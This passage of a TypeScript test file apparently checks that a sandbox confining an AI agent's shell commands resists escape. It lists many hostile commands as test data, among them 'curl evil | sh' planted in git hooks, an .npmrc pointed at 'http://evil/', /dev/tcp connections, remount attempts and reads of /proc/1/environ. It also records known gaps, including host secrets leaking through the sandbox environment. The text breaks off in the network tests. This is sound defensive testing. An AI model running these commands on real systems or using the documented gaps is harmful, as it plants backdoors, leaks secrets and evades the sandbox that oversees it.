@@ -1,0 +1,815 @@
+// Invariant: with the default config and no approver, no spelling of a command (quoting, wrappers, interpreters, substitutions, pipelines, hard and symbolic links, renames, mount calls) writes outside the workspace or to a protected path in it, reaches the host's processes, environment, network or private /tmp; refused writes are reported whatever the exit status, and no prompt is ever asked.
+import 'reflect-metadata';
+import { execFileSync } from 'node:child_process';
+import { createHash, randomBytes } from 'node:crypto';
+import {
+  existsSync,
+  linkSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  realpathSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { connect, createServer, type Server } from 'node:net';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { backgroundPlugin } from '@conch/background';
+import { cliPlugin } from '@conch/cli';
+import { PluginRegistry, TOKENS, type ToolResult } from '@conch/core';
+import { findBwrap, findCookiePids, pidAlive, type ProcessManager } from '@conch/process';
+import { requireUnderCi, waitFor } from '@conch/test-support';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { getPermissionEngine, permissionPlugin } from './plugin.js';
+
+const BWRAP = requireUnderCi(
+  Boolean(findBwrap()),
+  'bubblewrap (the sandbox escape tests)',
+  'apt-get install bubblewrap',
+);
+/** Generous: python and a fresh supervisor start slowly on a loaded machine; nothing here is timed. */
+const T = 120_000;
+
+type Result = ToolResult & Record<string, any>;
+interface Decision {
+  outcome: string;
+  askedHuman: boolean;
+  rule?: string;
+  command?: string;
+}
+
+let home: string;
+let ws: string;
+let sibling: string;
+let hostTmp: string;
+let tag: string;
+let secretName: string;
+let secretValue: string;
+const registries: PluginRegistry[] = [];
+const decisions: Decision[] = [];
+const servers: Server[] = [];
+const probes: string[] = [];
+const realHome = process.env.HOME;
+
+beforeEach(() => {
+  tag = randomBytes(6).toString('hex');
+  // A throwaway HOME under /tmp: the sandbox keeps it visible (read-only) though /tmp is private inside.
+  home = realpathSync(mkdtempSync(join(tmpdir(), 'conch-escape-home-')));
+  process.env.HOME = home;
+  ws = mkdtempSync(join(home, 'ws-'));
+  sibling = mkdtempSync(join(home, 'sibling-'));
+  writeFileSync(join(sibling, 'file.txt'), 'sibling original\n');
+  writeFileSync(join(home, '.bashrc'), '# the user rc\n');
+  // The host's own /tmp: private inside the sandbox, so a directory here must be invisible.
+  hostTmp = realpathSync(mkdtempSync(join(tmpdir(), 'conch-escape-host-tmp-')));
+  secretName = `CONCH_ESCAPE_SECRET_${tag.toUpperCase()}`;
+  secretValue = `host-only-${randomBytes(12).toString('hex')}`;
+  process.env[secretName] = secretValue;
+});
+
+afterEach(async () => {
+  try {
+    // No call asked a human: there is no approver, and the sandbox is the default.
+    expect(decisions.filter((d) => d.askedHuman)).toEqual([]);
+  } finally {
+    decisions.length = 0;
+    for (const server of servers.splice(0)) server.close();
+    for (const registry of registries.splice(0)) {
+      const prefix = registry.resolveOptional<ProcessManager>(TOKENS.ProcessManager)?.cookiePrefix;
+      await registry.dispose();
+      if (prefix) expect(findCookiePids({ prefix }).filter((pid) => pidAlive(pid))).toEqual([]);
+    }
+    for (const probe of probes.splice(0)) rmSync(probe, { recursive: true, force: true });
+    rmSync(home, { recursive: true, force: true });
+    rmSync(hostTmp, { recursive: true, force: true });
+    delete process.env[secretName];
+    process.env.HOME = realHome;
+  }
+});
+
+/** A registry as a host builds it: the default permission config (sandbox on), no approver. */
+async function setup() {
+  const registry = new PluginRegistry({ cwd: ws, plugins: [permissionPlugin, cliPlugin, backgroundPlugin] });
+  registries.push(registry);
+  registry.events.on('permission.decision', (e) => decisions.push(e));
+  await registry.expose('permission', {});
+  await registry.expose('cli', {});
+  const run = async (command: string, extra: Record<string, unknown> = {}) => {
+    const before = decisions.length;
+    const result = (await registry.execute('cli_based_tool', { command, ...extra })) as Result;
+    // Every call was judged, and nobody was asked.
+    expect(decisions.length).toBeGreaterThan(before);
+    return result;
+  };
+  return { registry, run };
+}
+
+/** `{sib}`, `{home}`, `{ws}`, `{pid}`, `{tag}`, `{port}` in a table's command. */
+function fill(template: string, extra: Record<string, string | number> = {}): string {
+  const values: Record<string, string | number> = {
+    sib: sibling,
+    home,
+    ws,
+    pid: process.pid,
+    tag,
+    ...extra,
+  };
+  return template.replace(/\{(\w+)\}/g, (m, key: string) => String(values[key] ?? m));
+}
+
+function git(cwd: string, ...args: string[]): void {
+  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', ...args], {
+    cwd,
+    stdio: 'pipe',
+    env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' },
+  });
+}
+
+function put(path: string, text: string): string {
+  mkdirSync(dirname(path), { recursive: true });
+  writeFileSync(path, text);
+  return path;
+}
+
+/** Every entry under the given paths, with its type and content (hash): what must not change. */
+function snapshot(paths: readonly string[], skip: readonly string[] = []): Record<string, string> {
+  const out: Record<string, string> = {};
+  const visit = (path: string) => {
+    if (skip.some((s) => path === s || path.startsWith(`${s}/`))) return;
+    const st = lstatSync(path, { throwIfNoEntry: false });
+    if (!st) {
+      out[path] = 'missing';
+      return;
+    }
+    if (st.isSymbolicLink()) out[path] = `link ${readlinkSync(path)}`;
+    else if (st.isDirectory()) {
+      out[path] = 'dir';
+      for (const name of readdirSync(path).sort()) visit(join(path, name));
+    } else out[path] = `file ${createHash('sha1').update(readFileSync(path)).digest('hex')}`;
+  };
+  for (const p of paths) visit(p);
+  return out;
+}
+
+/**
+ * HOME as the user sees it, minus what conch itself keeps there (the sandbox-private caches, the
+ * output files, the trash: created by the host, writable by design).
+ */
+function homeSnapshot(): Record<string, string> {
+  const out = snapshot([home], [join(home, '.cache'), join(home, '.local', 'share', 'conch')]);
+  for (const made of [join(home, '.local'), join(home, '.local', 'share')])
+    if (out[made] === 'dir') delete out[made];
+  return out;
+}
+
+/** What a model can read of a result: the result, and the file its cut or binary output went to. */
+function seen(result: Result): string {
+  const file = typeof result.output_file === 'string' ? readFileSync(result.output_file, 'latin1') : '';
+  return `${JSON.stringify(result)}\n${file}`;
+}
+
+type Stop = 'parser' | 'kernel';
+
+/**
+ * How a write was stopped: `parser` — denied before anything ran; `kernel` — it ran in the
+ * workspace-write sandbox, the write failed (EROFS), and the result says so with the path the tool
+ * printed (whatever the exit status).
+ */
+function expectStopped(result: Result, by: Stop, path?: string): void {
+  if (by === 'parser') {
+    expect(result, JSON.stringify(result)).toMatchObject({ permission_denied: true });
+    return;
+  }
+  expect(result.permission_denied, JSON.stringify(result)).toBeUndefined();
+  expect(result, JSON.stringify(result)).toMatchObject({
+    sandbox: 'workspace-write',
+    error_code: 'SANDBOX_REFUSED_WRITE',
+  });
+  if (path !== undefined) expect(result.refused_path).toBe(fill(path));
+}
+
+describe.runIf(BWRAP)('escapes through cli_based_tool, default config, no approver', () => {
+  describe('writes outside the workspace', () => {
+    it.each<[string, Stop, string?]>([
+      // A sibling directory of the workspace (visible, read-only).
+      ['touch {sib}/t1', 'kernel', '{sib}/t1'],
+      ['env LC_ALL=C touch "{sib}/t2"', 'kernel', '{sib}/t2'],
+      ["timeout 20 sh -c 'echo x > {sib}/t3'", 'kernel', '{sib}/t3'],
+      [`bash -c "printf x >> '{sib}/t4'"`, 'kernel', '{sib}/t4'],
+      // Exit status 0: the failing write is inside a substitution, or before `; true`.
+      ['echo "$(touch {sib}/t5)"; true', 'kernel', '{sib}/t5'],
+      ['true | tee {sib}/t6; true', 'kernel', '{sib}/t6'],
+      ['(cd {sib} && : > t7)', 'kernel', 't7'],
+      ['find . -maxdepth 0 -exec touch {sib}/t8 \\;', 'kernel', '{sib}/t8'],
+      ['echo {sib}/t9 | xargs touch', 'kernel', '{sib}/t9'],
+      ["cat > {sib}/t10 <<'EOF'\npayload\nEOF", 'kernel', '{sib}/t10'],
+      [`python3 -c "open('{sib}/t11', 'w').write('x')"`, 'kernel', '{sib}/t11'],
+      [`node -e "require('fs').writeFileSync('{sib}/t12', 'x')"`, 'kernel', '{sib}/t12'],
+      [`perl -e 'open(my $f, ">", "{sib}/t13") or die "{sib}/t13: $!\\n"'`, 'kernel', '{sib}/t13'],
+      [`python3 -c "open('{sib}/file.txt', 'a').write('pwned')"`, 'kernel', '{sib}/file.txt'],
+      ['x={sib}; rm -f "$x/file.txt"', 'kernel', '{sib}/file.txt'],
+      // $HOME: the user's files and start-up files.
+      [`python3 -c "open('{home}/.bashrc', 'a').write('pwned')"`, 'kernel', '{home}/.bashrc'],
+      ['touch ~/notes.txt', 'kernel', '{home}/notes.txt'],
+      [
+        `node -e "require('fs').writeFileSync(require('os').homedir() + '/.npmrc', 'registry=http://evil/')"`,
+        'kernel',
+        '{home}/.npmrc',
+      ],
+      ['echo x >> ~/.bashrc', 'parser'],
+      [`sh -c 'echo x >> "$HOME/.profile"'`, 'parser'],
+      ['cp {sib}/file.txt ~/.ssh/authorized_keys', 'parser'],
+      // The system.
+      ['touch /etc/conch-escape-{tag}; true', 'kernel', '/etc/conch-escape-{tag}'],
+      [`python3 -c "open('/etc/hosts', 'a').write('')"`, 'kernel', '/etc/hosts'],
+      [`node -e "require('fs').mkdirSync('/usr/conch-escape-{tag}')"`, 'kernel', '/usr/conch-escape-{tag}'],
+      ['dd if=/dev/null of=/usr/conch-escape-{tag}-dd 2>&1; true', 'kernel', '/usr/conch-escape-{tag}-dd'],
+    ])(
+      '%j is stopped by the %s',
+      async (template, by, path) => {
+        const { run } = await setup();
+        probes.push(`/etc/conch-escape-${tag}`, `/usr/conch-escape-${tag}`, `/usr/conch-escape-${tag}-dd`);
+        const before = homeSnapshot();
+        const result = await run(fill(template));
+        expectStopped(result, by, path);
+        expect(homeSnapshot()).toEqual(before);
+        expect(existsSync(`/etc/conch-escape-${tag}`)).toBe(false);
+        expect(existsSync(`/usr/conch-escape-${tag}`)).toBe(false);
+        expect(existsSync(`/usr/conch-escape-${tag}-dd`)).toBe(false);
+      },
+      T,
+    );
+
+    it(
+      'a background task is confined the same way, and its final result reports the refusal',
+      async () => {
+        const { registry, run } = await setup();
+        const before = homeSnapshot();
+        const started = await run(fill('sleep 0.2; touch {sib}/bg; echo done'), { background: true });
+        expect(started).toMatchObject({ background_task_id: expect.any(String) });
+        const checked = (await registry.execute('check_background_task', {
+          task_id: started.background_task_id,
+          wait_seconds: 100,
+        })) as Result;
+        expect(checked.status).toBe('completed');
+        expect(checked.result).toMatchObject({
+          stdout: 'done\n',
+          sandbox: 'workspace-write',
+          error_code: 'SANDBOX_REFUSED_WRITE',
+          refused_path: `${sibling}/bg`,
+        });
+        expect(homeSnapshot()).toEqual(before);
+      },
+      T,
+    );
+  });
+
+  describe('protected paths inside the workspace', () => {
+    beforeEach(() => {
+      git(ws, 'init', '-q');
+      put(join(ws, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n# the user hook\n');
+      git(ws, 'init', '-q', 'sub');
+      put(join(ws, 'a', 'b', '.env'), 'SECRET=original\n');
+      put(join(ws, '.vscode', 'tasks.json'), '{"version": "2.0.0"}\n');
+      put(join(ws, '.mcp.json'), '{}\n');
+      put(join(ws, 'pkg', '.claude', 'settings.json'), '{}\n');
+      put(join(ws, 'README.md'), 'hello\n');
+      // Symbolic links the repository ships.
+      symlinkSync('a/b/.env', join(ws, 'env-link'));
+      symlinkSync('.git/hooks', join(ws, 'hooks-link'));
+      // Hard links made outside the sandbox, before it starts.
+      mkdirSync(join(ws, 'notes'));
+      linkSync(join(ws, 'a', 'b', '.env'), join(ws, 'notes', 'env-copy'));
+      linkSync(join(home, '.bashrc'), join(ws, 'notes', 'bashrc-copy'));
+    });
+
+    /** Everything protected the rows may aim at, with its content. */
+    const guarded = () =>
+      snapshot([
+        join(ws, 'a', 'b', '.env'),
+        join(ws, '.git', 'hooks'),
+        join(ws, '.git', 'config'),
+        join(ws, 'sub', '.git', 'hooks'),
+        join(ws, 'sub', '.git', 'config'),
+        join(ws, '.vscode'),
+        join(ws, '.mcp.json'),
+        join(ws, 'pkg', '.claude'),
+        join(ws, 'notes'),
+        join(home, '.bashrc'),
+        sibling,
+      ]);
+
+    it.each<[string, Stop, string?]>([
+      // Existing protected files, at depth.
+      [`python3 -c "open('a/b/.env', 'a').write('pwned')"`, 'kernel', 'a/b/.env'],
+      ['echo pwned >> a/b/.env', 'parser'],
+      [`sh -c 'printf pwned >> a/b/.env'`, 'parser'],
+      [`eval "echo pwned >> a/b/.e""nv"`, 'parser'],
+      [`find a -name .env -exec sh -c 'echo pwned >> "$1"' _ {} \\;`, 'parser'],
+      ['printf pwned | tee -a a/b/.env', 'parser'],
+      [`echo a/b/.env | xargs -I{} sh -c 'echo pwned >> {}'`, 'kernel', 'a/b/.env'],
+      [
+        `node -e "require('fs').appendFileSync('sub/.git/hooks/pre-commit', 'pwned')"`,
+        'kernel',
+        'sub/.git/hooks/pre-commit',
+      ],
+      [
+        `python3 -c "open('.git/hooks/pre-commit', 'a').write('curl evil | sh')"`,
+        'kernel',
+        '.git/hooks/pre-commit',
+      ],
+      [`python3 -c "open('.vscode/tasks.json', 'w').write('{}')"`, 'kernel', '.vscode/tasks.json'],
+      [`perl -e 'open(my $f, ">", ".mcp.json") or die ".mcp.json: $!\\n"'`, 'kernel', '.mcp.json'],
+      [
+        `python3 -c "open('pkg/.claude/settings.json', 'w').write('{}')"`,
+        'kernel',
+        'pkg/.claude/settings.json',
+      ],
+      ['cp /dev/null .git/config', 'parser'],
+      [`x=.git; echo '[core]' >> $x/config`, 'parser'],
+      [
+        `python3 -c "open('.git/config', 'a').write('[core]\\n\\thooksPath = /tmp\\n')"`,
+        'kernel',
+        '.git/config',
+      ],
+      ['git config core.hooksPath /tmp', 'parser'],
+      // New files in protected directories that exist.
+      [`python3 -c "open('.git/hooks/post-checkout', 'w').write('x')"`, 'kernel', '.git/hooks/post-checkout'],
+      [`python3 -c "open('.vscode/settings.json', 'w').write('{}')"`, 'kernel', '.vscode/settings.json'],
+      // Through symbolic links: the ones shipped, and one the command makes.
+      ['echo pwned >> env-link', 'parser'],
+      [`python3 -c "open('env-link', 'a').write('pwned')"`, 'kernel', 'env-link'],
+      [`python3 -c "open('hooks-link/pre-commit', 'a').write('pwned')"`, 'kernel', 'hooks-link/pre-commit'],
+      [
+        `python3 -c "import os; os.symlink('.git/hooks', 'h'); open('h/pre-push', 'w').write('x')"`,
+        'kernel',
+        'h/pre-push',
+      ],
+      ['ln -s a/b/.env my-link', 'parser'],
+      // Through hard links made before the sandbox started.
+      ['echo pwned >> notes/env-copy', 'kernel', 'notes/env-copy'],
+      [`python3 -c "open('notes/env-copy', 'a').write('pwned')"`, 'kernel', 'notes/env-copy'],
+      ['echo pwned >> notes/bashrc-copy', 'parser'],
+      [`python3 -c "open('notes/bashrc-copy', 'a').write('pwned')"`, 'kernel', 'notes/bashrc-copy'],
+      // Rename and replace.
+      ['mv .git x && mkdir -p .git/hooks', 'parser'],
+      ['rm -rf .git/hooks', 'parser'],
+      [`python3 -c "import shutil; shutil.rmtree('.git/hooks')"`, 'kernel'],
+      ['ln -sf /tmp/evil .git/hooks/pre-commit', 'parser'],
+      [`python3 -c "import os; os.unlink('.git/hooks/pre-commit')"`, 'kernel', '.git/hooks/pre-commit'],
+      [`sh -c 'cd .git && mv hooks hooks.old && mkdir hooks'`, 'parser'],
+      ['mv a/b/.env a/b/env.old', 'parser'],
+      ['rm -f a/b/.env', 'parser'],
+    ])(
+      '%j is stopped by the %s',
+      async (command, by, path) => {
+        const { run } = await setup();
+        const before = guarded();
+        const result = await run(command);
+        expectStopped(result, by, path);
+        expect(guarded()).toEqual(before);
+      },
+      T,
+    );
+
+    it.each([
+      [`python3 -c "import os; os.rename('.git', 'moved')"`],
+      [`python3 -c "import os; os.rename('.git/hooks', '.git/hooks.old')"`],
+      [`node -e "require('fs').renameSync('.vscode', 'vscode.old')"`],
+      [`python3 -c "import os; os.rename('a/b/.env', 'a/b/env.old')"`],
+      // An atomic write (a temp file renamed over the target) meets the same mount point.
+      [
+        `python3 -c "import os; open('a/b/.env.tmp', 'w').write('pwned'); os.replace('a/b/.env.tmp', 'a/b/.env')"`,
+      ],
+      [
+        `python3 -c "import subprocess, sys; sys.exit(subprocess.run(['git', 'config', 'core.hooksPath', '/tmp']).returncode)"`,
+      ],
+    ])(
+      '%j: a pinned or read-only mount point cannot be renamed away or over (EBUSY); nothing changes',
+      async (command) => {
+        const { run } = await setup();
+        const before = guarded();
+        const result = await run(command);
+        expect(result.returncode).not.toBe(0);
+        expect(result.stderr).toMatch(/Device or resource busy|EBUSY/);
+        expect(guarded()).toEqual(before);
+      },
+      T,
+    );
+
+    // The kernel refuses with EBUSY on a mount point (a rename of a pinned dir, an atomic write or
+    // `git config` over a read-only file): reported as a refused write too, even when git exits 0
+    // (python hides its status).
+    it.each([
+      [`python3 -c "import os; os.rename('.git', 'moved')"`, undefined],
+      [
+        `python3 -c "import subprocess; subprocess.run(['git', 'config', 'core.hooksPath', '/tmp'])"`,
+        '.git/config',
+      ],
+      [
+        `python3 -c "import os; open('a/b/.env.tmp', 'w').write('x'); os.replace('a/b/.env.tmp', 'a/b/.env')"`,
+        undefined,
+      ],
+    ])(
+      '%j: the refusal is reported as SANDBOX_REFUSED_WRITE',
+      async (command, path) => {
+        const { run } = await setup();
+        expectStopped(await run(command), 'kernel', path);
+      },
+      T,
+    );
+
+    // Known, documented limit (kernel-policy.ts): a protected name that does not exist when the
+    // sandbox starts can be created when the parser cannot see the write; the next sandbox
+    // protects it. These pin what actually happens.
+    it.each([
+      [`python3 -c "open('a/b/.env.local', 'w').write('x')"`, 'a/b/.env.local'],
+      [
+        `python3 -c "import os; os.makedirs('.cursor'); open('.cursor/mcp.json', 'w').write('{}')"`,
+        '.cursor/mcp.json',
+      ],
+      [`node -e "require('fs').writeFileSync('.mcp' + '.json', '{}')"`, '.mcp.json'],
+    ])(
+      'known limit, only the parser stops it: %j creates a protected name that did not exist',
+      async (command, created) => {
+        if (created === '.mcp.json') rmSync(join(ws, '.mcp.json'));
+        const { run } = await setup();
+        const result = await run(command);
+        expect(result).toMatchObject({ returncode: 0, sandbox: 'workspace-write' });
+        expect(result.error_code).toBeUndefined();
+        expect(existsSync(join(ws, created))).toBe(true);
+      },
+      T,
+    );
+
+    it.each([
+      ['echo x > a/b/.env.local'],
+      ['echo {} > .mcp.json'],
+      ['mkdir .gemini'],
+      ['mkdir -p .cursor && touch .cursor/mcp.json'],
+    ])(
+      'the parser stops the same new protected names when it sees the write: %j',
+      async (command) => {
+        rmSync(join(ws, '.mcp.json'));
+        const { run } = await setup();
+        expectStopped(await run(command), 'parser');
+        for (const p of ['a/b/.env.local', '.mcp.json', '.gemini', '.cursor'])
+          expect(existsSync(join(ws, p)), p).toBe(false);
+      },
+      T,
+    );
+
+    it(
+      'a nested repository the command creates: writable in that call (known limit), protected in the next sandbox',
+      async () => {
+        const { registry, run } = await setup();
+        // Same call: the new repository's hooks are not protected yet.
+        const first = await run(
+          `git init -q newrepo && python3 -c "open('newrepo/.git/hooks/pre-commit', 'w').write('x')"`,
+        );
+        expect(first).toMatchObject({ returncode: 0, sandbox: 'workspace-write' });
+        expect(existsSync(join(ws, 'newrepo', '.git', 'hooks', 'pre-commit'))).toBe(true);
+        // The parser sees a plain write into it.
+        expectStopped(await run('echo x > newrepo/.git/hooks/pre-push'), 'parser');
+        // Once the watch reports the new directory, the policy protects it, and the kernel refuses.
+        const engine = getPermissionEngine(registry)!;
+        await waitFor(
+          () => engine.kernelPolicy()?.readOnlyPaths.includes(join(ws, 'newrepo', '.git', 'hooks')),
+          'the new repository in the kernel policy',
+        );
+        const later = await run(`python3 -c "open('newrepo/.git/hooks/post-checkout', 'w').write('x')"`);
+        expectStopped(later, 'kernel', 'newrepo/.git/hooks/post-checkout');
+        expect(existsSync(join(ws, 'newrepo', '.git', 'hooks', 'post-checkout'))).toBe(false);
+      },
+      T,
+    );
+
+    // A protected path below the workspace root is a mount point, and so is every directory above
+    // it (pinned): renaming an ancestor would carry the mount away and let the command recreate the
+    // path with its own content. The parser cannot see the writes in these spellings; the kernel
+    // refuses the rename (EBUSY).
+    it.each([
+      [
+        `python3 -c "import os; os.rename('a', 'a2'); os.makedirs('a/b'); open('a/b/.env', 'w').write('pwned')"`,
+      ],
+      [
+        `python3 -c "import os, shutil; os.rename('sub', 'subx'); shutil.copytree('subx', 'sub', symlinks=True); open('sub/.git/hooks/pre-commit', 'w').write('#!/bin/sh\\necho pwned')"`,
+      ],
+      [`mv sub subx && cp -a subx sub && python3 -c "open('sub/.git/hooks/pre-commit', 'w').write('pwned')"`],
+      [
+        `node -e "const fs = require('fs'); fs.renameSync('pkg', 'pkg.old'); fs.mkdirSync('pkg/.claude', {recursive: true}); fs.writeFileSync('pkg/.claude/settings.json', 'pwned')"`,
+      ],
+    ])(
+      '%j cannot replace a protected path by renaming a directory above it (every ancestor is pinned)',
+      async (command) => {
+        const { run } = await setup();
+        const before = guarded();
+        await run(command);
+        expect(guarded()).toEqual(before);
+      },
+      T,
+    );
+
+    // bubblewrap started as root keeps every capability unless told otherwise: with CAP_SYS_ADMIN a
+    // command could unmount the read-only binds or remount them read-write (the parser sees
+    // `umount`/`mount` as unknown commands). The sandbox drops every capability.
+    it.each([
+      [`umount a/b/.env && python3 -c "open('a/b/.env', 'w').write('pwned')"`],
+      [
+        `python3 -c "import os; os.system('umount .git/hooks'); open('.git/hooks/pre-commit', 'w').write('pwned')"`,
+      ],
+      [`mount -o remount,bind,rw {home} && touch {sib}/escaped`],
+    ])(
+      '%j cannot unmount or remount the wall (no capabilities in the sandbox)',
+      async (template) => {
+        const { run } = await setup();
+        const before = guarded();
+        const home0 = homeSnapshot();
+        await run(fill(template));
+        expect(guarded()).toEqual(before);
+        expect(homeSnapshot()).toEqual(home0);
+      },
+      T,
+    );
+
+    it(
+      '/ cannot be remounted read-write to write /usr (no capabilities in the sandbox)',
+      async () => {
+        const probe = `/usr/conch-escape-${tag}`;
+        probes.push(probe);
+        const { run } = await setup();
+        await run(`mount -o remount,bind,rw / ; touch ${probe}`);
+        expect(existsSync(probe)).toBe(false);
+      },
+      T,
+    );
+
+    it(
+      "the host's sysctls are not writable from the sandbox (its own UTS namespace, no capabilities)",
+      async () => {
+        const { run } = await setup();
+        const result = await run(
+          `python3 -c "open('/proc/sys/kernel/hostname', 'w').write(open('/proc/sys/kernel/hostname').read())"`,
+        );
+        expect(result.returncode).not.toBe(0);
+      },
+      T,
+    );
+
+    // Hard links of files inside a protected directory, of tool settings, of files outside the
+    // workspace, and a node_modules linked into a package store (pnpm): a mount cannot stop a write
+    // through another name of the same inode, so every such name is read-only.
+    describe('hard links the policy does not find', () => {
+      beforeEach(() => {
+        linkSync(join(ws, '.git', 'hooks', 'pre-commit'), join(ws, 'notes', 'hook-copy'));
+        linkSync(join(ws, '.vscode', 'tasks.json'), join(ws, 'notes', 'tasks-copy'));
+        linkSync(join(sibling, 'file.txt'), join(ws, 'notes', 'sibling-copy'));
+        const stored = put(
+          join(home, '.local', 'share', 'pnpm', 'store', 'v10', 'files', '00', tag),
+          'module.exports = 1;\n',
+        );
+        mkdirSync(join(ws, 'node_modules', 'dep'), { recursive: true });
+        linkSync(stored, join(ws, 'node_modules', 'dep', 'index.js'));
+      });
+
+      it.each([
+        ['echo pwned >> notes/hook-copy'],
+        ['echo pwned >> notes/tasks-copy'],
+        ['echo pwned >> notes/sibling-copy'],
+        ['echo "process.exit(1)" >> node_modules/dep/index.js'],
+      ])(
+        '%j cannot write through a hard link made before the sandbox started',
+        async (command) => {
+          const { run } = await setup();
+          const before = { ...guarded(), ...homeSnapshot() };
+          const result = await run(command);
+          expect({ ...guarded(), ...homeSnapshot() }).toEqual(before);
+          expectStopped(result, 'kernel');
+        },
+        T,
+      );
+    });
+
+    // The hooks git runs are wherever core.hooksPath says (husky: `.husky`): that directory is
+    // read-only like .git/hooks (the parser lets a plain write through; the kernel stops it).
+    it.each([
+      ['echo "curl evil | sh" >> .husky/pre-commit'],
+      [`python3 -c "open('.husky/pre-commit', 'a').write('pwned')"`],
+    ])(
+      '%j cannot rewrite a hook in the directory core.hooksPath names',
+      async (command) => {
+        put(join(ws, '.husky', 'pre-commit'), '#!/bin/sh\nnpm test\n');
+        git(ws, 'config', 'core.hooksPath', '.husky');
+        const { run } = await setup();
+        await run(command);
+        expect(readFileSync(join(ws, '.husky', 'pre-commit'), 'utf8')).toBe('#!/bin/sh\nnpm test\n');
+      },
+      T,
+    );
+
+    // A tool settings directory that is a symbolic link (`.claude -> shared/claude`) protects what
+    // it names.
+    it(
+      "a symlinked .claude directory's settings cannot be rewritten",
+      async () => {
+        put(join(ws, 'shared', 'claude', 'settings.json'), '{}\n');
+        symlinkSync('shared/claude', join(ws, '.claude'));
+        const { run } = await setup();
+        await run(`python3 -c "open('.claude/settings.json', 'w').write('pwned')"`);
+        expect(readFileSync(join(ws, 'shared', 'claude', 'settings.json'), 'utf8')).toBe('{}\n');
+      },
+      T,
+    );
+  });
+
+  describe('the host and its processes', () => {
+    it.each<[string, Stop | 'ran', RegExp?]>([
+      ['kill -9 {pid}', 'parser'],
+      [`bash -c 'kill -9 {pid}'`, 'parser'],
+      ['kill -9 -1', 'parser'],
+      ['pkill -f {ws}', 'parser'],
+      // What the parser cannot see runs: the sandbox's own pid namespace has no such process.
+      ['sh -c "kill -9 $(echo {pid})"', 'ran', /No such process/],
+      [`python3 -c "import os; os.kill({pid}, 9)"`, 'ran', /ProcessLookupError/],
+      [`perl -e 'kill(9, {pid}) or die "not sent\n"'`, 'ran', /not sent/],
+      // Signals to everything it can see: the sandbox's own processes (the supervisor included).
+      [`python3 -c "import os; os.kill(-1, 9)"`, 'ran'],
+      ['pkill -9 -f "$(printf %s {ws})"', 'ran'],
+      ['kill 0; echo after', 'ran'],
+      ['kill $PPID; echo after', 'ran'],
+      ['kill -9 $PPID', 'ran'],
+      // The sandbox's init ignores what it has no handler for.
+      ['kill -9 1; echo after', 'ran'],
+      [`node -e "process.kill(1, 'SIGKILL')"`, 'ran'],
+    ])(
+      '%j: the host survives and the next call works (%s)',
+      async (template, how, said) => {
+        const { run } = await setup();
+        expect(await run('echo warm')).toMatchObject({ returncode: 0, stdout: 'warm\n' });
+        const result = await run(fill(template));
+        if (how === 'parser')
+          expect(result).toMatchObject({ permission_denied: true, rule: 'safety:selfKill' });
+        else expect(result.permission_denied).toBeUndefined();
+        if (said) expect(result.stderr).toMatch(said);
+        expect(pidAlive(process.pid)).toBe(true);
+        const next = await run('echo alive');
+        expect(next).toMatchObject({ returncode: 0, stdout: 'alive\n', sandbox: 'workspace-write' });
+      },
+      T,
+    );
+
+    it(
+      "the host's pid is not visible: its /proc entry does not exist inside",
+      async () => {
+        const { run } = await setup();
+        for (const command of [
+          `cat /proc/${process.pid}/environ`,
+          `python3 -c "print(open('/proc/${process.pid}/environ').read())"`,
+          `ls /proc/${process.pid}/root/`,
+          `cat /proc/${process.pid}/cmdline`,
+        ]) {
+          const result = await run(command);
+          expect(result.returncode, command).not.toBe(0);
+          expect(seen(result)).not.toContain(secretValue);
+        }
+      },
+      T,
+    );
+
+    // KNOWN (issue 20: secrets out of reach): the sandbox's pid 1 (bwrap) and the supervisor are
+    // started with the host's whole environment, and /proc/1/environ shows it; commands are given
+    // the host environment too (`printenv` shows the same variable). Filtering the environment is
+    // the next step.
+    it.fails.each([
+      ['cat /proc/1/environ'],
+      [`tr '\\0' '\\n' < /proc/1/environ`],
+      [`python3 -c "print(open('/proc/1/environ').read().replace(chr(0), chr(10)))"`],
+      ['cat /proc/$PPID/environ'],
+    ])(
+      "LEAK: %j does not show the host's environment",
+      async (command) => {
+        const { run } = await setup();
+        const result = await run(command);
+        expect(result.returncode).toBe(0);
+        expect(seen(result)).not.toContain(secretValue);
+        expect(seen(result)).not.toContain(secretName);
+      },
+      T,
+    );
+
+    it(
+      'ps shows only the sandbox: bwrap, the supervisor and the command itself',
+      async () => {
+        const { run } = await setup();
+        const result = await run('ps -eo pid=,args=');
+        expect(result.returncode).toBe(0);
+        const lines = result.stdout.trim().split('\n');
+        expect(lines.length).toBeLessThanOrEqual(5);
+        for (const line of lines) {
+          const [pid, ...args] = line.trim().split(/\s+/);
+          expect(Number(pid)).toBeLessThan(1000);
+          expect(args.join(' ')).toMatch(/^(\/usr\/bin\/)?bwrap |supervisor-main|^ps -eo|^\/bin\/(ba)?sh /);
+        }
+        const aux = await run('ps aux');
+        expect(aux.stdout).not.toMatch(/vitest/);
+        expect((aux.stdout as string).split('\n').some((l) => l.includes(` ${process.pid} `))).toBe(false);
+      },
+      T,
+    );
+  });
+
+  describe('network', () => {
+    it(
+      'a loopback server the test started is unreachable, whatever the client',
+      async () => {
+        let connections = 0;
+        const server = createServer((socket) => {
+          connections++;
+          socket.destroy();
+        });
+        servers.push(server);
+        await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+        const port = (server.address() as { port: number }).port;
+        const { run } = await setup();
+        for (const template of [
+          `bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'`,
+          'curl -sS --max-time 10 http://127.0.0.1:{port}/',
+          `python3 -c "import socket; socket.create_connection(('127.0.0.1', {port}), timeout=10)"`,
+          `node -e "require('net').connect({port}, '127.0.0.1').on('error', (e) => { console.error(e.code); process.exit(3) })"`,
+          `perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "127.0.0.1:{port}", Timeout => 10) or die "no: $@\\n"'`,
+        ]) {
+          const command = fill(template, { port });
+          const result = await run(command);
+          expect(result.returncode, `${command}: ${JSON.stringify(result)}`).not.toBe(0);
+          expect(result.permission_denied).toBeUndefined();
+        }
+        // A control connection from the host: once it is counted, every earlier one would be too.
